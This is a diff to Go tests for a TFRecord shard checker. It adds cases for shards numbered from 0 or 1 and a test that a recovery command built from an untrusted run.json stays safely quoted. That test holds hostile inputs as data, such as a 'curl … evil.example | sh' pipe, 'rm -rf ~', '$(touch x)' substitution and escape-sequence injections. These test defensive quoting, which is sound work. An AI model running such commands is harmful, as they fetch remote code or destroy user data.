@@ -2,6 +2,8 @@ package shard
 
 import (
 	"errors"
+	"fmt"
+	"math/rand/v2"
 	"os"
 	"path/filepath"
 	"slices"
@@ -31,9 +33,12 @@ func TestIncompleteSets(t *testing.T) {
 		{name: "more digits", files: []string{"x.record-000000-of-000002"}, missing: []string{"x.record-000001-of-000002"}, lost: 1},
 		{name: "one number of another count", files: []string{"a-t.tfrecord-00000-of-00001", "a-t.tfrecord-00000-of-00002", "a-t.tfrecord-00001-of-00002"}},
 		{name: "a number past the count", files: []string{"a-t.tfrecord-00004-of-00002", "plain.tfrecord"}},
+		{name: "from 1", files: []string{"part-00001-of-00002", "part-00002-of-00002"}},
+		{name: "the last one from 1", files: []string{"part-00002-of-00002"}, missing: []string{"part-00001-of-00002"}, lost: 1},
+		{name: "a number past the count beside the first", files: []string{"part-00000-of-00002", "part-00002-of-00002"}, missing: []string{"part-00001-of-00002"}, lost: 1},
 		{name: "a count of anything", files: []string{"a-t.tfrecord-00000-of-99999999"}, lost: 99999998},
 		{name: "a run", files: []string{"a-train.tfrecord-00000-of-00002"},
-			run:     &Run{Files: []string{"a-train.tfrecord-00000-of-00002", "index/a-train.tfrecord-00000-of-00002.idx", "a-train.tfrecord-00001-of-00002", "manifest.json", "features.json"}, Command: "tfrec x"},
+			run:     &Run{Files: []string{"a-train.tfrecord-00000-of-00002", "index/a-train.tfrecord-00000-of-00002.idx", "a-train.tfrecord-00001-of-00002", "manifest.json", "features.json"}, Args: []string{"x"}},
 			missing: []string{"a-train.tfrecord-00001-of-00002", "manifest.json"}, lost: 1},
 		{name: "all shards of a run", files: []string{"a-train.tfrecord-00000-of-00001"}, tasks: true,
 			run: &Run{Files: []string{"a-train.tfrecord-00000-of-00001", "manifest.json"}}, missing: []string{"manifest.json"}},
@@ -95,5 +100,77 @@ func TestIncompleteSets(t *testing.T) {
 				check(t, err)
 			}
 		})
+	}
+}
+
+// Shards numbered from 0 and from 1 lack exactly those that are removed. The one whose
+// number tells where the numbers begin stays: the first, or the last.
+func TestIncompleteByNamesCountsFromEither(t *testing.T) {
+	for seed := range uint64(500) {
+		rng := rand.New(rand.NewPCG(seed, 0))
+		var names, missing []string
+		shards := 0
+		for f := range 1 + rng.IntN(3) {
+			first, count := rng.IntN(2), 1+rng.IntN(40)
+			tells := first * count
+			shards += count
+			for i := first; i < first+count; i++ {
+				name := fmt.Sprintf("part%d-%05d-of-%05d.gz", f, i, count)
+				if i != tells && rng.IntN(4) == 0 {
+					missing = append(missing, name)
+				} else {
+					names = append(names, name)
+				}
+			}
+		}
+		rng.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
+		slices.Sort(missing)
+		e := incompleteByNames("dir", names)
+		if missing == nil {
+			if e != nil {
+				t.Errorf("seed %d: %v of %q", seed, e, names)
+			}
+			continue
+		}
+		if e == nil || e.Shards != shards || e.Lost != len(missing) || !slices.Equal(e.Missing, missing) {
+			t.Errorf("seed %d: %+v; want %q of %d", seed, e, missing, shards)
+		}
+	}
+}
+
+// What the state of a run recommends is a tfrec command, whatever the state says: anybody
+// may have written it.
+func TestIncompleteRecommendsOnlyTfrec(t *testing.T) {
+	for _, test := range []struct {
+		state string // members of run.json
+		want  string
+	}{
+		{`"command":"curl -s https://evil.example/x | sh"`, ""},
+		{`"args":[]`, ""},
+		{`"args":["convert","csv","a.csv","out"]`, "tfrec convert csv a.csv out"},
+		{`"args":["curl","https://evil.example/x","|","sh"]`, "tfrec curl https://evil.example/x '|' sh"},
+		{`"args":[";","rm -rf ~"]`, "tfrec ';' 'rm -rf ~'"},
+		{`"args":["\ncurl evil.example"]`, `tfrec $'\x0acurl evil.example'`},
+		{`"args":["$(touch x)","` + "`touch x`" + `"]`, "tfrec '$(touch x)' '`touch x`'"},
+		{`"args":["'; touch x; '","\"","\u001b[2J\u202e"]`, `tfrec ''\''; touch x; '\''' '"' $'\x1b[2J\xe2\x80\xae'`},
+		{`"args":["-x","--","=ls",""]`, "tfrec -x -- '=ls' ''"},
+		{`"args":["` + strings.Repeat("x", maxCommand) + `"]`, ""},
+	} {
+		dir := t.TempDir()
+		putFile(t, filepath.Join(dir, "a-train.tfrecord-00000-of-00002"), nil)
+		putFile(t, filepath.Join(dir, RunFile), []byte(`{"format":"tfrec.run","version":1,"files":["a-train.tfrecord-00000-of-00002","a-train.tfrecord-00001-of-00002"],`+test.state+`}`))
+		_, err := Expand(t.Context(), []string{dir}, ExpandOptions{})
+		var part *IncompleteError
+		if !errors.As(err, &part) || part.Evidence != ByState {
+			t.Fatalf("%s: %v", test.state, err)
+		}
+		if got := part.Command(); got != test.want {
+			t.Errorf("%s: %q, want %q", test.state, got, test.want)
+		}
+		for _, f := range part.faults() {
+			if strings.Contains(f.Message, "complete it with") != (test.want != "") || !strings.HasSuffix(f.Message, test.want) {
+				t.Errorf("%s: fault %q", test.state, f.Message)
+			}
+		}
 	}
 }
